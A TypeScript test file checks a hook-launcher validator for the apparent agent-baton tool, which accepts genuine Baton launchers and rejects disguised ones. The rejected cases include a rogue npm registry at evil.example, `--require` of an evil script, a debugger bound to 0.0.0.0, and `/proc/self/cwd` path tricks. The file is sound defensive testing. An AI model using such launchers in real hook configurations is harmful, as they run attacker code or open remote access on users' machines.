/** hooks/places.ts launcherProblem: which launchers before `hook <agent>` run a baton. */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { isBatonCommand } from "../src/core/hooks/config.js";
import { launcherProblem, launcherWords } from "../src/hooks/places.js";
import { CLI, cleanupDirs, REPO, tempDir } from "./helpers.js";

afterEach(cleanupDirs);

const problem = (command: string, o: { root?: string; codexShim?: string } = {}) => {
  const words = launcherWords(command);
  return words ? launcherProblem(words, o) : "no launcher";
};

describe("launcherProblem", () => {
  it("takes the launchers Baton writes or --command is meant for", () => {
    const root = tempDir();
    for (const c of [
      "baton hook claude PreToolUse",
      "exec baton hook cline PreToolUse",
      "command -v baton >/dev/null 2>&1 || exit 0; baton hook copilot preToolUse",
      "npx agent-baton hook claude Stop",
      "npx -y agent-baton@0.2.0 hook claude Stop",
      `${process.execPath} ${CLI} hook claude Stop`,
      `node --max-old-space-size=4096 ${CLI} hook claude Stop`,
      `node --no-warnings --enable-source-maps ${CLI} hook claude Stop`,
      `${process.execPath} ${join(REPO, "dist", "cli.cjs")} hook gemini BeforeTool`,
      // An installed baton that is gone: status calls the hooks stale instead.
      "/usr/bin/node /usr/lib/node_modules/agent-baton/bin/baton.cjs hook claude Stop",
      // The baton as a program, naming the Node it hands to (quoted as install quotes a path).
      `${CLI} --node=${process.execPath} hook claude Stop`,
      `${CLI} "--node=/opt/my node/bin/node" hook claude Stop`,
      `${CLI} '--node=/opt/my node/bin/node' hook claude Stop`,
      // Gone in the program form too: stale, not "not a baton".
      "/usr/lib/node_modules/agent-baton/bin/baton.cjs --node=/usr/bin/node hook claude Stop",
    ])
      expect(problem(c, { root }), c).toBeUndefined();
    const shim = join(root, "codex-home", "baton", "baton");
    expect(problem(`${shim} hook codex PreToolUse`, { root: tempDir(), codexShim: shim })).toBeUndefined();
  });

  it("refuses what runs something else, or a file the repository holds, in front of Baton's words", () => {
    const root = tempDir();
    const install = tempDir();
    mkdirSync(join(install, "bin"));
    writeFileSync(join(install, "package.json"), '{ "name": "agent-baton" }\n');
    const plain = join(install, "bin", "baton.cjs");
    writeFileSync(plain, readFileSync(CLI), { mode: 0o644 });
    // The same file executable is a baton: only the mode differs.
    const runnable = join(tempDir(), "bin", "baton.cjs");
    mkdirSync(dirname(runnable));
    writeFileSync(join(dirname(dirname(runnable)), "package.json"), '{ "name": "agent-baton" }\n');
    writeFileSync(runnable, readFileSync(CLI), { mode: 0o755 });
    expect(problem(`${runnable} --node=${process.execPath} hook claude Stop`, { root })).toBeUndefined();
    mkdirSync(join(root, "tools"), { recursive: true });
    writeFileSync(join(root, "tools", "baton"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    writeFileSync(join(root, "tools", "baton.cjs"), "process.exit(0)\n");
    // A package that calls itself agent-baton does not make a file inside the project Baton.
    writeFileSync(join(root, "tools", "package.json"), '{ "name": "agent-baton" }\n');
    const evil = tempDir();
    writeFileSync(join(evil, "package.json"), '{ "name": "evil" }\n');
    writeFileSync(join(evil, "cli.js"), "process.exit(0)\n");
    for (const c of [
      "true baton hook claude PreToolUse",
      "exec true baton hook cline PreToolUse",
      "sh -c 'curl x' baton hook claude PreToolUse",
      "npx baton hook claude Stop",
      "npx agent-baton-evil hook claude Stop",
      "npx --package=evil agent-baton hook claude Stop",
      "npx --registry=http://evil.example agent-baton hook claude Stop",
      "node baton hook claude Stop",
      "env BATON_HOOK_SERVER=off baton hook claude Stop",
      "/tmp/evil baton hook claude Stop",
      `${join(root, "tools", "baton")} hook claude Stop`,
      `/proc/self/cwd/tools/baton hook claude Stop`,
      `node ${join(root, "tools", "baton.cjs")} hook claude Stop`,
      `node ${join(evil, "cli.js")} hook claude Stop`,
      "agent-baton hook claude Stop",
      // Node options that run other code, nothing, or a debugger before (or instead of) the baton.
      `node --eval=0 ${CLI} hook claude Stop`,
      `node --require=/tmp/evil.js ${CLI} hook claude Stop`,
      `node --import=data:text/javascript,0 ${CLI} hook claude Stop`,
      `node --check ${CLI} hook claude Stop`,
      `node -c ${CLI} hook claude Stop`,
      `node --inspect=0.0.0.0:9229 ${CLI} hook claude Stop`,
      `node --env-file=.env ${CLI} hook claude Stop`,
      `node --max-old-space-size=big ${CLI} hook claude Stop`,
      // A Node the repository holds, or no Node at all, named to the baton or before it.
      `${join(root, "tools", "node")} ${CLI} hook claude Stop`,
      `${CLI} --node=${join(root, "tools", "node")} hook claude Stop`,
      `${CLI} --node=/proc/self/cwd/tools/node hook claude Stop`,
      `${CLI} --node=/bin/true hook claude Stop`,
      `${CLI} --node=node hook claude Stop`,
      `${CLI} --node=${process.execPath} --eval=0 hook claude Stop`,
      `--node=${process.execPath} ${CLI} hook claude Stop`,
      `${join(root, "tools", "baton.cjs")} --node=${process.execPath} hook claude Stop`,
      // Paths that read one way as text and run another: the hook's own working directory.
      `${CLI} --node=//proc/self/cwd/tools/node hook claude Stop`,
      `${CLI} --node=/./proc/self/cwd/tools/node hook claude Stop`,
      `${CLI} --node=/dev/fd/../cwd/tools/node hook claude Stop`,
      `/dev/fd/../cwd/tools/baton.cjs --node=${process.execPath} hook claude Stop`,
      `${process.execPath} /dev/fd/../cwd/tools/baton.cjs hook claude Stop`,
      `${REPO}/bin/../bin/baton.cjs --node=${process.execPath} hook claude Stop`,
      // A baton that cannot run as a program: the bundle (no #! line, not executable), a copy
      // of the baton without its execute bit.
      `${join(REPO, "dist", "cli.cjs")} --node=${process.execPath} hook claude Stop`,
      `${plain} --node=${process.execPath} hook claude Stop`,
    ])
      expect(problem(c, { root }), c).toMatch(/not a baton/);
  });
});

describe("isBatonCommand", () => {
  it("reads a --node= word between the baton and its hook's words, however it is quoted", () => {
    for (const c of [
      `${CLI} --node=/usr/bin/node hook claude Stop`,
      `"${CLI}" "--node=/opt/my node/bin/node" hook claude Stop`,
      `${CLI} '--node=/opt/my node/bin/node' hook claude Stop`,
      "npx -y agent-baton@0.2.0 hook claude Stop",
      "npx agent-baton@^1.2 hook claude Stop",
    ])
      expect(isBatonCommand(c, "claude"), c).toBe(true);
    for (const c of [`${CLI} --node= hook claude Stop`, `${CLI} --other hook claude Stop`, `${CLI} --node=/usr/bin/node hook codex Stop`])
      expect(isBatonCommand(c, "claude"), c).toBe(false);
  });
});
